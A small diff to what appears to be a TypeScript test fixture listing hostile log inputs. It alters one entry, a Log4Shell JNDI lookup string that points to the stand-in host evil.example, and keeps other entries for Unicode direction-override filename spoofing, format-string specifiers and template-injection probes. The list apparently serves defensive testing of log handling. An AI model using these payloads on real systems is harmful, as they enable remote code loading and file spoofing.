@@ -13,7 +13,7 @@ export const LOG: readonly string[] = [
   '\u2028line\u2029paragraph',
   '\u202egnp.exe',
   '\u2066isolate\u2069',
-  '${jndi:ldap://evil.example/a}',
+  '$\u007bjndi:ldap://evil.example/a}',
   '%n%n%s%x',
   '%(asctime)s',
   '{{7*7}}<%= 7*7 %>#{7*7}',
